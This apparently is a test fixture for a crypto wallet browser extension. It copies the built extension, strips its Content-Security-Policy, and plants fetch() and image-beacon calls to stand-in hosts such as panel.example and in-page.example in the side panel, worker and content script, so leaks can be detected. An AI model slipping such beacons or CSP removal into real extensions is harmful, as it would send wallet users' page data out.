import { appendFile, cp, mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';

/** Hosts that a planted fault asks, each from another place and by another way. */
export const HINTED = 'hint.example';
export const PLANTED = ['panel.example', HINTED, 'worker.example', 'in-page.example'];

const HEAD = '<head>';
const POLICY = /<meta http-equiv="Content-Security-Policy"[^>]*>/;

/**
 * A copy of the built extension that tells others: the panel, without the policy that forbids it, by a request and by a hint
 * for the browser; the worker; the script in the page. The help page tries it with its policy in place.
 */
export async function plantedCopy(built: string): Promise<string> {
  const folder = await mkdtemp(path.join(tmpdir(), 'wallet-witness-planted-'));
  await cp(built, folder, { recursive: true });
  const edit = async (file: string, change: (text: string) => string) => {
    const text = await readFile(path.join(folder, file), 'utf8');
    const changed = change(text);
    if (changed === text) throw new Error(`nothing could be planted into ${file}`);
    await writeFile(path.join(folder, file), changed);
  };
  await writeFile(path.join(folder, 'planted.js'), telling('panel.example'));
  await writeFile(path.join(folder, 'kept.js'), telling('policy-kept.example'));
  await edit('sidepanel.html', (text) =>
    text
      .replace(POLICY, '')
      .replace(
        HEAD,
        `${HEAD}<script src="/planted.js"></script><link rel="preconnect" href="https://${HINTED}">`,
      ),
  );
  await edit('popup.html', (text) => text.replace('</head>', '<script src="/kept.js"></script></head>'));
  await appendFile(path.join(folder, 'background.js'), telling('worker.example'));
  await appendFile(
    path.join(folder, 'content-scripts/wallet.js'),
    `;new Image().src = 'https://in-page.example/?' + document.title;`,
  );
  return folder;
}

function telling(host: string): string {
  return `;fetch('https://${host}/?told=everything', { mode: 'no-cors' }).catch(() => undefined);`;
}

/** An extension that does nothing, for the browser as it is by itself. */
export async function emptyExtension(): Promise<string> {
  const folder = await mkdtemp(path.join(tmpdir(), 'wallet-witness-empty-'));
  await writeFile(
    path.join(folder, 'manifest.json'),
    JSON.stringify({ manifest_version: 3, name: 'does nothing', version: '1' }),
  );
  return folder;
}
